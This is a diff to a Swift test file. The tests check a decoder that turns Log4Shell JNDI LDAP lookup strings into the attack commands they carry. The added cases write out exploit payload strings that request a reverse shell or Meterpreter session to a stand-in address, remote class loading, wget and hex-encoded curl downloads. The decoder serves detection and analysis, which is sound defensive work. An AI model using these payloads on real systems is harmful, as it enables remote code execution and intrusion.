@@ -213,6 +213,20 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
       log4shell("${jndi:ldap://h.example/TomcatBypass/ReverseShell/203.0.113.66/4444}")?.commands == [
         "reverse shell to 203.0.113.66:4444"
       ])
+    for (path, command) in [
+      ("Basic/ReverseShell/203.0.113.66:4444", "reverse shell to 203.0.113.66:4444"),
+      ("TomcatBypass/Meterpreter/203.0.113.66/4444", "Meterpreter session to 203.0.113.66:4444"),
+      ("Basic/FromUrl/\(base64("http://203.0.113.66/E.class"))", "class from http://203.0.113.66/E.class"),
+      ("fromUrl/http://203.0.113.66/E", "class from http://203.0.113.66/E"),
+      ("Basic/Command/wget http://203.0.113.66/x", "wget http://203.0.113.66/x"),
+      ("Basic/Command/Hex/6375726c20203230332e302e3131332e3636", "curl  203.0.113.66"),
+    ] {
+      #expect(log4shell("${jndi:ldap://h.example/\(path)}")?.commands.first == command, "\(path)")
+    }
+    // Words, and what names no port.
+    for path in ["ReverseShell/help/me", "Basic/Meterpreter", "Hex/beef", "shell/a.html"] {
+      #expect(log4shell("${jndi:ldap://h.example/\(path)}")?.commands == [], "\(path)")
+    }
     #expect(log4shell("${jndi:ldap://h.example/Basic/Command/touch%20/tmp/x}")?.commands == ["touch /tmp/x"])
     #expect(
       log4shell("${jndi:ldap://h.example/Deserialization/CommonsBeanutils1/Command/Base64/\(base64("id > /tmp/o"))}")?
